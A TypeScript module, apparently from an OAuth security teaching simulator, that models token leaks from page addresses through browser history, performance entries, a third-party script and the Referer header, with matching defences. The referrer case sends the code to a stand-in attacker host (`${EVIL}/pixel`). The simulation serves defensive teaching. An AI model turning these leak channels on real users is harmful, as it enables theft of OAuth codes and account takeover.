import type { Step } from "../../flow/define-flow.ts";
import { EVIL } from "../../grants/cast.ts";
import { CLEAN_ADDRESS } from "../../grants/steps/callback-checks.ts";
import type { AnswerWay, Attack, Defence, Way } from "../attack.ts";
import { extended, led } from "../../flow/edit-flow.ts";
import { attackChapter, attackerPlace, attackParties, attackValues } from "../steps/cast.ts";
import { pkce, singleUse } from "../steps/defences.ts";
import {
  credentialIn,
  redeemCode,
  REDEEM,
  takenFrom,
  usedAtApi,
  USE,
  callWithToken,
} from "../steps/use.ts";
import type { AnsweredTarget } from "../target.ts";

const cleanAddress: Defence = {
  id: CLEAN_ADDRESS,
  title: "The page takes the answer out of its address",
  spec: "RFC 10017 §7.2.1",
  by: "client",
  wordsWithout: {
    check: {
      title: "The script checks what came back, and leaves the address as it is",
      why: "The script compares state and issuer with what it kept. What came back still stands in the address bar, and in this tab’s history.",
      button: "check what came back",
    },
  },
};

const referrerPolicy: Defence = {
  id: "client.referrer-policy",
  title: "The page sends no referrer",
  spec: "RFC 9700 §4.2.4",
  by: "client",
  leftOut: { referrerPolicy: "unsafe-url" },
};

const SERVER = {
  reason:
    "Print’s server answers the redirect with another one, so no page ever stands at the address with the code.",
};

const APP = {
  reason:
    "The answer goes to an app of the device: no page ever stands at the address with the code.",
};

const onPage =
  (make: AnswerWay["against"]): AnswerWay["against"] =>
  (target, on) => {
    switch (target.flow.sandbox.clientSite) {
      case "static":
        return make(target, on);
      case "server":
        return SERVER;
      case "app":
        return APP;
    }
  };

const history: Way = {
  id: "history",
  title: "Read from the browser’s history",
  modelled: "The history of the session is the modelled browser’s.",
  defences: [cleanAddress, pkce, singleUse],
  against: onPage((target) =>
    stealing(target, "done", {
      kind: "local",
      title: "A script that runs later reads the history",
      from: "attacker",
      to: "attacker",
      channel: "local",
      stage: "use",
      spec: "RFC 9700 §4.3",
      why: "Whatever stood in the address bar stands in the history too, for the user of the next hour and for every script of this site.",
      chapter: "attack",
      button: "read the history",
      run: async (_, { browser }) =>
        browser.history.map(credentialIn).find(({ outcome }) => outcome !== "nothing") ?? NOTHING,
      outcomes: takenFrom(target, CLEAN_ADDRESS),
    }),
  ),
  proof: usedAtApi,
};

const performanceEntry: Way = {
  id: "performance-entry",
  title: "Read from the navigation’s performance entry",
  modelled: "The performance timeline is the modelled browser’s.",
  defences: [pkce, singleUse],
  against: onPage((target) =>
    stealing(target, "done", {
      kind: "local",
      title: "A script that runs later asks how the page was loaded",
      from: "attacker",
      to: "attacker",
      channel: "local",
      stage: "use",
      spec: "RFC 9700 §4.3",
      why: "A page that clears its address clears the history, and not the performance entry of its own navigation: that keeps the address the page was loaded from, fragment included.",
      chapter: "attack",
      button: "read the performance entry",
      run: async (_, { browser }) => credentialIn(browser.scriptCanRead?.loadedFrom ?? ""),
      outcomes: takenFrom(target),
    }),
  ),
  proof: usedAtApi,
};

const script: Way = {
  id: "third-party-script",
  title: "Reported by a third-party script",
  modelled: "The script is a step of the walk; it reads the modelled browser’s address.",
  defences: [pkce],
  against: onPage((target) =>
    stealing(target, "check", {
      kind: "local",
      title: "A statistics script reports the page’s address to Mallory",
      from: "attacker",
      to: "attacker",
      channel: "local",
      stage: "answer",
      spec: "RFC 9700 §4.2",
      why: "Scripts of others run with the page’s own rights. This one only reports the address it runs at, before Print’s own script has cleared it.",
      chapter: "attack",
      button: "report the address",
      run: async (_, { browser }) => credentialIn(browser.address),
      outcomes: takenFrom(target),
    }),
  ),
  proof: usedAtApi,
};

const referrer: Way = {
  id: "referrer",
  title: "Sent along as the referrer of a picture",
  modelled: "The Referer header is computed by the modelled browser.",
  defences: [referrerPolicy, pkce],
  against: onPage((target) =>
    target.client.answer === "token"
      ? { reason: "A Referer header never carries the fragment (RFC 9110 §10.1.3)." }
      : stealing(target, "check", {
          kind: "exchange",
          title: "The page loads a picture from Mallory’s site",
          from: "page",
          to: "attacker",
          channel: "direct",
          stage: "answer",
          spec: "RFC 9700 §4.2",
          why: "A browser may tell a site which page its picture is for. Here that page’s address holds the code.",
          chapter: "attack",
          button: "load the picture",
          request: () => ({ method: "GET", url: `${EVIL}/pixel`, headers: [] }),
          classify: ({ request }) => credentialIn(refererOf(request.headers)).outcome,
          outcomes: withRead(takenFrom(target, referrerPolicy.id)),
        }),
  ),
  proof: usedAtApi,
};

const NOTHING = { outcome: "nothing" };

function refererOf(headers: readonly (readonly [string, string])[]): string {
  return headers.find(([name]) => name === "Referer")?.[1] ?? "";
}

function withRead(outcomes: ReturnType<typeof takenFrom>): Step["outcomes"] {
  return {
    ...outcomes,
    code: {
      ...outcomes.code,
      read: ({ request }) => credentialIn(refererOf(request.headers)).values,
    },
  };
}

const STEAL = "steal";

/** The walk with the theft before the step of that id, and what the attacker does with what was taken. */
function stealing(target: AnsweredTarget, before: string, step: Step) {
  return extended(led(target.flow, before, STEAL), {
    parties: { attacker: attackParties.attacker },
    places: [attackerPlace],
    values: attackValues,
    chapters: [attackChapter],
    steps: { [STEAL]: step, [REDEEM]: redeemCode(target), [USE]: callWithToken(target.flow) },
  });
}

/** What leaks from an address is worth as much as what was put there (RFC 9700 §4.2, §4.3). */
export const tokenLeak: Attack = {
  id: "token-leak",
  title: "Leak from the address",
  summary: "What comes back in an address is read where addresses end up, and used.",
  capability:
    "Mallory sees addresses of Print’s pages: a history, a referrer, the log of a statistics script.",
  spec: "RFC 9700 §4.2",
  defences: [cleanAddress, referrerPolicy, pkce, singleUse],
  ways: [script, history, performanceEntry, referrer],
};
